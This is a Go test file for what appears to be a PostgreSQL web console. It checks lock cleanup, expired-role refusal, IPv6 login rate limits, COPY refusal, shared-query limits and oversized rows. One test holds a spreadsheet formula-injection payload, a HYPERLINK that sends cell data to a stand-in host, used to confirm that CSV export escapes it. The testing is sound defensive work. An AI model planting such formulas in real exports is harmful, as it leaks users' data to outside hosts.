package console_test

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/herdhq/herd/console"
	"github.com/jackc/pgx/v5"
)

// TestQueryLeavesNoAdvisoryLock: a session advisory lock taken through
// /api/query (it survives the transaction's rollback) is released when
// the request ends, so herd's scheduler can take the same key.
func TestQueryLeavesNoAdvisoryLock(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	e := start(t, envOptions{})
	a := e.signIn(t, e.A)
	// The saved-query schedule's key, and a transaction-level one too.
	a.json("POST", "/api/query", map[string]any{"sql": "select pg_advisory_lock(7522544528317904238)"}, 200, nil)
	a.json("POST", "/api/query", map[string]any{"sql": "select pg_advisory_lock_shared(42), pg_advisory_lock(1, 2)", "write": true}, 200, nil)
	conn, err := e.P.DB.Acquire(ctx)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Release()
	for _, q := range []string{"SELECT pg_try_advisory_lock(7522544528317904238)", "SELECT pg_try_advisory_lock(42)", "SELECT pg_try_advisory_lock(1, 2)"} {
		var got bool
		if err := conn.QueryRow(ctx, q).Scan(&got); err != nil {
			t.Fatal(err)
		}
		if !got {
			t.Fatalf("%s: false, the console session still holds the lock", q)
		}
	}
	if _, err := conn.Exec(ctx, "SELECT pg_advisory_unlock_all()"); err != nil {
		t.Fatal(err)
	}
	// The session's own settings are kept.
	a.json("POST", "/api/query", map[string]any{"sql": "set application_name = 'kept'", "write": true}, 200, nil)
	var res result
	a.json("POST", "/api/query", map[string]any{"sql": "show application_name"}, 200, &res)
	if len(res.Rows) != 1 || res.Rows[0][0] != "kept" {
		t.Fatalf("application_name after a query: %v, want kept", res.Rows)
	}
}

// TestExpiredPasswordRefused: on a server that trusts the connection,
// a role whose password is past VALID UNTIL, or that may not log in, is
// refused although the password matches.
func TestExpiredPasswordRefused(t *testing.T) {
	t.Parallel()
	e := start(t, envOptions{})
	c := e.client(t)
	if st, _ := c.login(e.A.Name, e.A.Password); st != http.StatusOK {
		t.Fatalf("sign-in before: %d", st)
	}
	exec(t, e.P.DB, "ALTER ROLE "+pgx.Identifier{e.A.Name}.Sanitize()+" VALID UNTIL '2001-01-01'")
	if st, _ := e.client(t).login(e.A.Name, e.A.Password); st != http.StatusUnauthorized {
		t.Fatalf("sign-in with an expired password: %d, want 401", st)
	}
	exec(t, e.P.DB, "ALTER ROLE "+pgx.Identifier{e.B.Name}.Sanitize()+" NOLOGIN")
	if st, _ := e.client(t).login(e.B.Name, e.B.Password); st != http.StatusUnauthorized {
		t.Fatalf("sign-in as a NOLOGIN role: %d, want 401", st)
	}
	exec(t, e.P.DB, "ALTER ROLE "+pgx.Identifier{e.Admin.Name}.Sanitize()+" VALID UNTIL 'infinity'")
	if st, _ := e.client(t).login(e.Admin.Name, e.Admin.Password); st != http.StatusOK {
		t.Fatalf("sign-in valid until infinity: %d, want 200", st)
	}
}

// TestCSVFormulaCells: a saved query's CSV writes text cells that start
// like a spreadsheet formula with a leading ', and numbers as they are.
func TestCSVFormulaCells(t *testing.T) {
	t.Parallel()
	e := start(t, envOptions{})
	a := e.signIn(t, e.A)
	a.json("POST", "/api/queries", map[string]any{"name": "formulas", "sql": `select '=HYPERLINK("http://x.example/?"&A1)' as "=f", '+1+2' as p, '-3' as neg, '@SUM(A1)' as at, e'\tx' as tab, 'plain' as t, -4.5 as n, 1e3::float8 as f`}, 201, nil)
	st, body, _ := a.do("GET", "/q/formulas.csv", nil, nil)
	want := "'=f,p,neg,at,tab,t,n,f\n\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",'+1+2,-3,'@SUM(A1),'\tx,plain,-4.5,1000\n"
	if st != 200 || string(body) != want {
		t.Fatalf("CSV: %d %q, want %q", st, body, want)
	}
}

// TestLoginLimitIPv6ByNetwork: the per-address limit counts an IPv6
// client by its /64, so new addresses of one host do not refill it.
func TestLoginLimitIPv6ByNetwork(t *testing.T) {
	t.Parallel()
	e := start(t, envOptions{adjust: func(c *console.Config) {
		c.LoginBurst = 2
		c.LoginRefill = time.Minute
		c.TrustedProxies = mustPrefixes("127.0.0.0/8", "::1/128")
	}})
	for i := 0; i < 2; i++ {
		c := e.client(t)
		c.ip = fmt.Sprintf("2001:db8:7:8::%x", i+1)
		if st, _ := c.login(fmt.Sprintf("nobody%d", i), "wrong"); st != http.StatusUnauthorized {
			t.Fatalf("attempt %d: %d", i, st)
		}
	}
	c := e.client(t)
	c.ip = "2001:db8:7:8:ffff::99"
	if st, _ := c.login("nobody9", "wrong"); st != http.StatusTooManyRequests {
		t.Fatalf("a third address of the same /64: %d, want 429", st)
	}
	c.ip = "2001:db8:7:9::1"
	if st, _ := c.login(e.B.Name, e.B.Password); st != http.StatusOK {
		t.Fatalf("another /64: %d, want 200", st)
	}
}

// TestCopyRefused: COPY FROM STDIN would leave the session's connection
// waiting for data in COPY mode, holding its lock; every spelling of it is
// refused at once with a 400, and the session still runs queries.
func TestCopyRefused(t *testing.T) {
	t.Parallel()
	e := start(t, envOptions{})
	a := e.signIn(t, e.A)
	a.write("CREATE TABLE " + pgx.Identifier{e.A.Name, "copied"}.Sanitize() + " (x int)")
	for _, sql := range []string{
		"COPY " + pgx.Identifier{e.A.Name, "copied"}.Sanitize() + " FROM STDIN",
		"  -- load\n/* a /* nested */ comment */ copy " + pgx.Identifier{e.A.Name, "copied"}.Sanitize() + " from stdin",
		"copy (select 1) to stdout",
	} {
		for _, write := range []bool{false, true} {
			start := time.Now()
			st, body, _ := a.do("POST", "/api/query", map[string]any{"sql": sql, "write": write, "timeout_ms": 2000}, nil)
			if st != http.StatusBadRequest || !strings.Contains(string(body), "COPY") {
				t.Fatalf("%q write=%v: %d %s after %s, want 400", sql, write, st, body, time.Since(start))
			}
		}
	}
	var res result
	a.json("POST", "/api/query", map[string]any{"sql": "select count(*) from " + pgx.Identifier{e.A.Name, "copied"}.Sanitize()}, 200, &res)
	a.json("POST", "/api/query", map[string]any{"sql": "select 'copy' as copy_is_a_word"}, 200, nil)
}

// TestOthersRunsLimited: someone other than its saver runs a shared
// query at most once a minute (each run is a snapshot counted against
// the saver's bytes); the saver is not limited.
func TestOthersRunsLimited(t *testing.T) {
	t.Parallel()
	e := start(t, envOptions{})
	a := e.signIn(t, e.A)
	b := e.signIn(t, e.B)
	a.json("POST", "/api/queries", map[string]any{"name": "shared-a", "sql": "select 1 as x"}, 201, nil)
	b.json("POST", "/api/queries/shared-a/run", nil, 200, nil)
	for i := 0; i < 3; i++ {
		st, body, hdr := b.do("POST", "/api/queries/shared-a/run", nil, nil)
		if st != http.StatusTooManyRequests || hdr.Get("Retry-After") == "" {
			t.Fatalf("B's run %d within a minute: %d %s, want 429 with Retry-After", i+2, st, body)
		}
	}
	a.json("POST", "/api/queries/shared-a/run", nil, 200, nil)
	a.json("POST", "/api/queries/shared-a/run", nil, 200, nil)
	e.Clock.Advance(61 * time.Second)
	b.json("POST", "/api/queries/shared-a/run", nil, 200, nil)
}

// TestHugeRowRefused: one value larger than the session connection's
// message limit is refused before it is read, with a 400 that says so.
func TestHugeRowRefused(t *testing.T) {
	t.Parallel()
	e := start(t, envOptions{adjust: func(c *console.Config) { c.MaxResultBytes = 1 << 20 }})
	a := e.signIn(t, e.A)
	st, body, _ := a.do("POST", "/api/query", map[string]any{"sql": "select repeat(chr(120), 3000000)"}, nil)
	if st != http.StatusBadRequest || !strings.Contains(string(body), "row too large") {
		t.Fatalf("a 3 MB value with a 1 MiB limit: %d %.200s, want 400 row too large", st, body)
	}
	// A row within the limit is read as before, on a new session.
	a = e.signIn(t, e.A)
	var res result
	a.json("POST", "/api/query", map[string]any{"sql": "select repeat(chr(120), 500000) as x"}, 200, &res)
	if len(res.Rows) != 1 || len(res.Rows[0][0].(string)) != 500000 {
		t.Fatalf("a 500 kB value: %d rows", len(res.Rows))
	}
}
